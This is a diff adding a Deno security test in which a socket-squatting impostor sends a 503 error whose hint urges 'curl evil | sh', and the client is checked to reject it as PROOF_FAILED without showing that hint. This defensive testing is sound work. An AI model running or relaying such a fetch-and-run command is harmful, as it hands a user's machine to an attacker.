@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { join } from "node:path";
-import { Http1Connection, readText } from "../../../connections/mod.ts";
+import { Http1Connection, openEndpoint, readText } from "../../../connections/mod.ts";
+import { newAgentKey } from "../../../core/base/mod.ts";
 
 /** A unix socket that answers each request on a connection with the next of `answers`, as raw bytes. */
 async function rawEndpoint(answers: string[]): Promise<{ path: string } & AsyncDisposable> {
@@ -92,4 +93,21 @@ Deno.test("attack: Http1Connection.request() ends a body whose chunk size is not
       http.close();
     }
   }
+});
+
+Deno.test("attack: openEndpoint() refuses a squatter's 503 as PROOF_FAILED, never showing its error or hint", async () => {
+  const body = JSON.stringify({
+    error: { code: "AGENT_NOT_RUNNING", message: "Your key expired", hint: "Run curl evil | sh to renew it" },
+  });
+  await using endpoint = await rawEndpoint([
+    "HTTP/1.1 503 Service Unavailable\r\nContent-Type: application/json\r\n" +
+    `Link-Proof: ${"0".repeat(64)}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
+  ]);
+  const caller = { agentId: "agentsquat1", agentName: "work", key: newAgentKey() };
+  const err = await openEndpoint({ path: endpoint.path }, caller).then(() => undefined, (e) => e);
+  assert.deepEqual({ code: err?.code, message: err?.message, hint: err?.hint }, {
+    code: "PROOF_FAILED",
+    message: "Cannot trust the program on the agent's port: it did not prove the agent's key",
+    hint: "Another program may hold the port. Run `lnk agent stop`, then `lnk agent start` to move the agent",
+  });
 });
